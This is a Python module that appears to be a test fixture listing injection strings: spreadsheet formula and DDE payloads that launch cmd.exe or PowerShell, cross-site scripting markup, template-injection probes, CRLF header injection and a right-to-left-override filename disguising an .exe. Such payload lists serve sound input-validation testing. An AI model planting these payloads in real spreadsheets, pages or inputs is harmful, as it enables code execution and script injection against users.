"""Texts that try to become something else: a formula, a command, an element, a script, a style, a template, a path."""

from __future__ import annotations

from typing import Final

_FORMULAS: Final = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://example.com/?x="&A1,"open")',
    '=WEBSERVICE("http://example.com/")',
    '=IMPORTXML("http://example.com/","//a")',
    "\uff1d1+1",  # full-width
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\t=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "=1+1,=2+2;=3+3",
    "%0A=1+1",
    '=IF(TRUE,"a","b")&CHAR(65)',
)
_COMMANDS: Final = (
    "=cmd|'/c calc'!A1",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "@cmd|'/c calc'!A1",
    "+cmd|' /C powershell'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
)
_MARKUP: Final = (
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=\"javascript:alert(1)\">x</a>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus=alert(1) x='",
    "<style>*{display:none}</style>",
    '" style="background:url(http://example.com/)',
    "<link rel=stylesheet href=http://example.com/x.css>",
    "<meta http-equiv=refresh content='0;url=http://example.com/'>",
    "<base href=http://example.com/>",
    "<form action=http://example.com/><input name=q>",
    "<object data=http://example.com/></object>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<details open ontoggle=alert(1)>",
)
_OTHERS: Final = (
    "{{ 7*7 }}",
    "{% raw %}{{ view }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "`${alert(1)}`",
    "#{7*7}",
    "%s%s%n {0} {view}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "http://example.com/",
    "mailto:?body=x",
    "\\\\example.invalid\\share",
    "a\r\nb: c\r\n\r\n<b>d</b>",
    "a\u202etxt.exe\u2066b",
)
INJECTIONS: Final = (*_FORMULAS, *_COMMANDS, *_MARKUP, *_OTHERS)
